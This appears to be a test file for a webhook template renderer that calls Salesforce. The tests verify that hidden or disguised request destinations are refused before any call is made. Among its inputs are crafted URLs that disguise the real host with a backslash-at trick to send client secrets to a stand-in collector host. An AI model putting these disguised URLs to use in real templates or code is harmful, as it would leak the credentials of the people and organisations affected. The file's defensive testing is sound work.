// No hidden destinations: every URL a render will call is read as fetch reads it and checked
// before the first call; the instance override contains the whole run or nothing is sent.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { plannedCalls } from './destinations';
import { renderWebhook } from './render';
import { doc, startTestServer, type TestServer } from '../../../test/support/send-test-server';
import type { LiquidTag } from '../syntax';

let server: TestServer;
before(async () => {
  server = await startTestServer((r) => (r.path.endsWith('/token') ? { body: '{"access_token": "00DTOKEN!hidden-test-token"}' } : undefined));
});
after(() => server.close());

const USER = { external_id: 'u1' };
const never = (() => assert.fail('nothing may be called')) as unknown as typeof fetch;
const tokenCall = (url: string) => `{% connected_content ${url} :method post :body client_id=[insert_client_id]&client_secret=[insert_client_secret]&grant_type=client_credentials :save result %}Bearer {{result.access_token}}`;
const template = (webhook: string, token: string) => `POST ${webhook}\nAuthorization: ${tokenCall(token)}\nContent-Type: application/json\n\n{"LastName": "x"}`;
const placeholders = { insert_client_id: 'id', insert_client_secret: 'the-client-secret' };

test('a token URL whose shown host is not the host reached is refused before any call, naming the real host', async () => {
  const r = await renderWebhook(doc(template('https://acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/', 'https://collector.example\\@acme.my.salesforce.com/services/oauth2/token')), { user: USER, placeholders, fetch: never });
  assert.equal(r.ok, false);
  if (r.ok) return;
  assert.equal(r.kind, 'refused');
  assert.match(r.message, /^The connected_content call in the header Authorization: the URL reads as going to acme\.my\.salesforce\.com, but a request goes to collector\.example/);
  assert.equal(r.calls.length, 0);
});

test('a URL with a user name or password is refused', async () => {
  const r = await renderWebhook(doc(template('https://u:pw@acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/', 'https://acme.my.salesforce.com/services/oauth2/token')), { user: USER, placeholders, fetch: never });
  assert.ok(!r.ok && r.kind === 'refused' && /The webhook URL: the URL holds a user name or password/.test(r.message), JSON.stringify(r));
});

test('the override contains every Salesforce host: login host, trailing dot, letter case', async () => {
  const r = await renderWebhook(doc(template('https://ACME.my.salesforce.com./services/data/v60.0/sobjects/Lead/', 'https://login.salesforce.com/services/oauth2/token')), { user: USER, placeholders, instanceUrlOverride: server.url });
  assert.ok(r.ok, r.ok ? '' : r.message);
  assert.equal(r.url, `${server.url}/services/data/v60.0/sobjects/Lead/`);
  assert.equal(r.calls[0].url, `${server.url}/services/oauth2/token`);
  assert.equal(server.received.at(-1)?.path, '/services/oauth2/token');
});

test('with the override, a host it cannot contain stops the run before any call, by name', async () => {
  for (const [webhook, token, host] of [
    ['https://acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/', 'https://collector.example/services/oauth2/token', 'collector.example'],
    ['https://hooks.example.org/lead', 'https://acme.my.salesforce.com/services/oauth2/token', 'hooks.example.org'],
  ]) {
    const r = await renderWebhook(doc(template(webhook, token)), { user: USER, placeholders, instanceUrlOverride: server.url, fetch: never });
    assert.ok(!r.ok && r.kind === 'refused', JSON.stringify(r));
    assert.match(r.message, new RegExp(`would not contain ${host.replace(/\./g, '\\.')}`));
  }
});

test('a host known only once rendered is checked at the call, and stops the run there', async () => {
  const text = `POST https://acme.my.salesforce.com/x\nAuthorization: {% assign h = 'collector.example' %}${tokenCall('https://{{h}}/services/oauth2/token')}\n\n{}`;
  const r = await renderWebhook(doc(text), { user: USER, placeholders, instanceUrlOverride: server.url, fetch: never });
  assert.ok(!r.ok && r.kind === 'refused', JSON.stringify(r));
  assert.match(r.message, /^connected_content in the header Authorization: the instance override .* would not contain collector\.example/);
});

test('the planned calls: the webhook URL and every connected_content tag, also one held inside another tag', () => {
  const d = doc(`POST https://[insert_instance_name].my.salesforce.com/x\nAuthorization: ${tokenCall('https://[insert_instance_name].my.salesforce.com/services/oauth2/token')}\n\n{% liquid\n  echo 'x'\n%}{% if a %}{% connected_content https://b.example.com/{{a}} %}{% endif %}`);
  // A tag that holds tags ({% liquid %}'s lines), whatever the member holding them is called.
  const liquidTag = d.body?.liquid.find((n): n is LiquidTag => n.type === 'tag' && n.name.text === 'liquid');
  assert.ok(liquidTag);
  const inner = { ...(d.headers[0].value.liquid[0] as LiquidTag), connectedContent: { url: { start: 0, end: 0, text: 'https://inner.example.com/t' }, options: [] } };
  Object.assign(liquidTag, { tags: [inner] });
  assert.deepEqual(plannedCalls(d, { insert_instance_name: 'acme' }), [
    { what: 'the webhook URL', url: 'https://acme.my.salesforce.com/x', liquid: false },
    { what: 'the connected_content call in the header Authorization', url: 'https://acme.my.salesforce.com/services/oauth2/token', liquid: false, field: 'header Authorization' },
    { what: 'the connected_content call in the body', url: 'https://inner.example.com/t', liquid: false, field: 'body' },
    { what: 'the connected_content call in the body', url: 'https://b.example.com/{{a}}', liquid: true, field: 'body' },
  ]);
});

test('a connected_content inside {% liquid %} is planned, and refused before any call when the override cannot contain it', async () => {
  const text = `POST https://acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/\nContent-Type: application/json\n\n{% liquid\n  connected_content https://collector.example/x :save r\n  echo r.a\n%}{}`;
  assert.deepEqual(plannedCalls(doc(text), {}).map((c) => c.url), ['https://acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/', 'https://collector.example/x']);
  const r = await renderWebhook(doc(text), { user: USER, instanceUrlOverride: server.url, fetch: never });
  assert.ok(!r.ok && r.kind === 'refused' && /^The connected_content call in the body: .*would not contain collector\.example/.test(r.message), JSON.stringify(r));
});
